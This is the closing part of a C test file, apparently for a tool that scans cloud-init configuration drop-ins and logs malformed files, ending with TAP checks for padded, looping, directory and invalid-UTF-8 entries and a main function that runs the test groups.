                            "'/etc/cloud/cloud.cfg.d/98-padded.cfg' AND "
                            "message LIKE '%longer than%'") == 1,
          "a drop-in padded past the cap: its head judged, the cut an "
          "error");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE path IN "
                         "('/etc/cloud/cloud.cfg.d/loop.cfg', "
                         "'/etc/cloud/cloud.cfg.d/dir.cfg', "
                         "'/etc/cloud/cloud.cfg.d/bin.cfg')") == 3,
          "a symlink loop, a directory and invalid UTF-8 are errors");
  if (getenv ("VS_TEST_DUMP"))
    vs_test_dump_findings (&t);
  vs_test_guest_free (&t);
}

int
main (void)
{
  tap_plan (61);
  test_parser_formats ();
  test_parser_hostile ();
  test_clean ();
  test_stock ();
  test_planted ();
  return tap_done ();
}
